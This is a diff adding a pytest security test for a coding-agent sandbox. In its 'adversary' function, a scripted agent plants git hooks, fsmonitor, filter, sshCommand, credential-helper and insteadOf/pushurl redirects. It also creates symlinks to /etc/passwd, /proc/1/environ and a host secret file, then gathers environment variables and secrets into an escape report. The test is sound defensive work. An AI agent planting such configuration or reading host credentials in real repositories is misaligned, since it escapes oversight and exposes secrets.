@@ -1,0 +1,250 @@
+"""A full run with an adversarial agent, through each sandbox: it fixes the bug, and on the way plants
+everything that would make the host's git run its commands or send the push elsewhere (hooks,
+fsmonitor, hooksPath, sshCommand, filters and diff.external with attributes, insteadOf,
+pushInsteadOf, include.path, a credential helper), a nested repository, a symlinked .paid.yml,
+links out of the worktree, and reads /proc/1/environ. Nothing it planted may run on the host, the
+push goes to the real remote only, no credential reaches it, and the run ends as a clean PR."""
+
+from __future__ import annotations
+
+import json
+import socket
+import subprocess
+import threading
+import uuid
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from faststream.nats import NatsBroker
+from sqlalchemy.ext.asyncio import AsyncEngine
+from temporalio.client import WorkflowFailureError
+from temporalio.testing import WorkflowEnvironment
+
+from paid_contracts import RepoRef, RunOutcome
+from paid_executor.params import ExecutionResult
+from paid_executor.sandbox.bwrap import bwrap_path
+from paid_executor.sandbox.cgroup import pids_cgroup_root
+from paid_github_emulator.server import GitHubEmulator
+
+from .conftest import BUGGY_CALC, FIXED_CALC, TOKEN
+from .docker_support import can_build_image, docker_client, ensure_test_image
+from .loop_support import loop_request, loop_worker
+from .test_fix_forward import run
+
+DOCKER = docker_client()
+BRANCH = "paid/issue-1"
+CHECK = "test: python3 -c 'import calc; assert calc.add(2, 3) == 5'\nmax_iterations: 3\n"
+PLANTED_HOOKS = (
+    "post-commit",
+    "pre-commit",
+    "reference-transaction",
+    "pre-push",
+    "post-checkout",
+    "fsmonitor",
+)
+
+
+@pytest.fixture(
+    params=[
+        pytest.param(
+            "bwrap",
+            marks=pytest.mark.skipif(bwrap_path() is None, reason="needs bubblewrap (bwrap), not installed"),
+        ),
+        pytest.param(
+            "docker",
+            marks=[
+                pytest.mark.skipif(DOCKER is None, reason="needs a Docker engine (dockerd), not reachable"),
+                pytest.mark.skipif(
+                    not can_build_image(), reason="needs the host's python3.11 to build a test image"
+                ),
+            ],
+        ),
+    ]
+)
+def kind(request: pytest.FixtureRequest) -> str:
+    if request.param == "bwrap" and pids_cgroup_root() is None:
+        pytest.skip("needs a writable cgroup pids controller (bwrap refuses to start as root without one)")
+    return str(request.param)
+
+
+@pytest.fixture
+def canary() -> Iterator[tuple[int, list[str]]]:
+    """A listener where the planted insteadOf points: it must never be connected to."""
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen()
+    seen: list[str] = []
+
+    def accept() -> None:
+        while True:
+            try:
+                connection, peer = listener.accept()
+            except OSError:
+                return
+            seen.append(str(peer))
+            connection.close()
+
+    threading.Thread(target=accept, daemon=True).start()
+    yield listener.getsockname()[1], seen
+    listener.close()
+
+
+def adversary(markers: Path, emulator_url: str, canary_port: int, secret_file: Path) -> str:
+    """The agent: plants on the first iteration; removes only the nested repository when told."""
+    command = f"touch {markers}/ran-on-host"
+    hooks = "".join(
+        f"    w('.git/hooks/{name}', '#!/bin/sh\\n{command}-{name}\\n', 0o755)\n" for name in PLANTED_HOOKS
+    )
+    return f"""
+import shutil, socket
+def w(path, text, mode=0o644):
+    p = pathlib.Path(path)
+    p.parent.mkdir(parents=True, exist_ok=True)
+    p.write_text(text)
+    p.chmod(mode)
+if '<failures>' in prompt:
+    assert 'nested git repository' in prompt, prompt
+    shutil.rmtree('sub')
+else:
+    pathlib.Path('calc.py').write_text({FIXED_CALC!r})
+{hooks}
+    canary = 'http://127.0.0.1:{canary_port}/'
+    with open('.git/config', 'a') as config:
+        config.write('''
+[core]
+\\tfsmonitor = {command}-fsmonitor-config
+\\thooksPath = .git/hooks
+\\tsshCommand = {command}-ssh
+[filter "evil"]
+\\tclean = {command}-clean
+\\tsmudge = {command}-smudge
+\\tprocess = {command}-process
+\\trequired = true
+[diff]
+\\texternal = {command}-diff
+[url "''' + canary + '''"]
+\\tinsteadOf = {emulator_url}
+\\tpushInsteadOf = {emulator_url}
+[remote "origin"]
+\\tpushurl = ''' + canary + '''
+[credential]
+\\thelper = !{command}-credential
+[include]
+\\tpath = evil.cfg
+''')
+    w('.git/evil.cfg', '[core]\\n\\tfsmonitor = {command}-included\\n')
+    w('.gitattributes', '* filter=evil diff=evil\\n')
+    w('.git/info/attributes', '* filter=evil diff=evil\\n')
+    w('sub/.git/HEAD', 'ref: refs/heads/main\\n')
+    w('sub/.git/config', '[core]\\n\\tfsmonitor = {command}-nested\\n')
+    w('sub/file.txt', 'inside a nested repository\\n')
+    pathlib.Path('.paid.yml').unlink()
+    pathlib.Path('.paid.yml').symlink_to('/etc/passwd')
+    pathlib.Path('environ-link').symlink_to('/proc/1/environ')
+    pathlib.Path('secret-link').symlink_to({str(secret_file)!r})
+    def read(path):
+        try:
+            return pathlib.Path(path).read_bytes().decode(errors='replace')
+        except OSError as error:
+            return type(error).__name__
+    def reach(port):
+        try:
+            socket.create_connection(('127.0.0.1', port), timeout=2).close()
+            return True
+        except OSError:
+            return False
+    report = {{'env': dict(os.environ), 'proc1': read('/proc/1/environ'), 'self': read('/proc/self/environ'),
+              'secret': read({str(secret_file)!r}), 'canary': reach({canary_port})}}
+    w('escape-report.json', json.dumps(report))
+"""
+
+
+def make_repo(emulator: GitHubEmulator) -> RepoRef:
+    emulator.add_user("alice", TOKEN)
+    name = f"calc-{uuid.uuid4().hex[:8]}"
+    emulator.create_repository("alice", name, {"calc.py": BUGGY_CALC, ".paid.yml": CHECK})
+    emulator.create_issue("alice", name, title="add() subtracts", body="add(2, 3) is -1", as_user="alice")
+    return RepoRef(owner="alice", name=name)
+
+
+def pushed(emulator: GitHubEmulator, repo: RepoRef) -> dict[str, tuple[str, bytes]]:
+    """The pushed branch's files: path -> (mode, content), read from the emulator's own repository."""
+    git_dir = emulator.hub.git.path("alice", repo.name)
+
+    def git(*args: str) -> bytes:
+        return subprocess.run(["git", f"--git-dir={git_dir}", *args], capture_output=True, check=True).stdout
+
+    files = {}
+    for record in git("ls-tree", "-r", "-z", BRANCH).split(b"\0"):
+        if record:
+            meta, _, path = record.partition(b"\t")
+            mode, _, object_id = meta.decode().split(" ")
+            files[path.decode()] = (mode, git("cat-file", "blob", object_id))
+    return files
+
+
+async def test_an_adversarial_agent_gains_nothing_on_the_host(
+    kind: str,
+    canary: tuple[int, list[str]],
+    env: WorkflowEnvironment,
+    emulator: GitHubEmulator,
+    engine: AsyncEngine,
+    broker: NatsBroker,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    monkeypatch.setenv("PAID_EXECUTOR_DATABASE_URL", "postgresql://paid:db-secret@db/paid")
+    canary_port, connections = canary
+    markers = tmp_path / "markers"
+    markers.mkdir()
+    secret_file = tmp_path / "host-secret.txt"
+    secret_file.write_text("host file secret")
+    repo = make_repo(emulator)
+    agent_dir = tmp_path / "agent"
+    agent_dir.mkdir()
+    body = adversary(markers, emulator.base_url + "/", canary_port, secret_file)
+    (agent_dir / "agent.py").write_text(
+        "import json, os, pathlib, sys\n"
+        "prompt = pathlib.Path(os.environ['PAID_PROMPT_FILE']).read_text()\n" + body + "\n"
+        "print(json.dumps({'type': 'result', 'subtype': 'success', 'is_error': False, 'result': 'done'}))\n"
+    )
+    image = ensure_test_image(DOCKER) if kind == "docker" and DOCKER is not None else "unused"
+    async with loop_worker(
+        env,
+        emulator,
+        engine,
+        broker,
+        tmp_path / "ws",
+        agent_command=f"python3 {agent_dir / 'agent.py'}",
+        sandbox_read_only=[agent_dir],
+        sandbox_image=image,
+    ) as worker:
+        try:
+            result: ExecutionResult | WorkflowFailureError = await run(
+                env.client, loop_request(repo, sandbox=kind), worker.task_queue
+            )
+        except WorkflowFailureError as error:  # judged after the markers, which say more
+            result = error
+
+    assert sorted(path.name for path in markers.iterdir()) == [], "planted commands ran on the host"
+    assert connections == [], "something connected to the insteadOf/pushurl target"
+    assert isinstance(result, ExecutionResult), result.cause
+    assert result.outcome is RunOutcome.SUCCEEDED, result.detail
+    pulls = emulator.pulls("alice", repo.name)
+    assert len(pulls) == 1
+    files = pushed(emulator, repo)
+    assert pulls[0]["head"]["sha"] == emulator.branch_sha("alice", repo.name, BRANCH)
+    assert files["calc.py"] == ("100644", FIXED_CALC.encode()), "calc.py went through a filter"
+    assert not [path for path in files if path.startswith((".git/", "sub/"))], sorted(files)
+    assert files[".paid.yml"] == ("120000", b"/etc/passwd"), "a link is committed as a link"
+    assert files["environ-link"] == ("120000", b"/proc/1/environ")
+    assert files["secret-link"] == ("120000", str(secret_file).encode())
+    everything = b"".join(content for _, content in files.values())
+    for credential in (TOKEN.encode(), b"db-secret", b"Authorization", b"host file secret"):
+        assert credential not in everything, credential
+    report = json.loads(files["escape-report.json"][1])
+    assert report["canary"] is False
+    assert report["secret"] in ("FileNotFoundError", "PermissionError")
+    secret_names = ("PAID_EXECUTOR_", "GIT_CONFIG_KEY", "GIT_CONFIG_VALUE", "GITHUB_TOKEN", "GH_TOKEN")
+    assert not [key for key in report["env"] if key.startswith(secret_names)], report["env"]
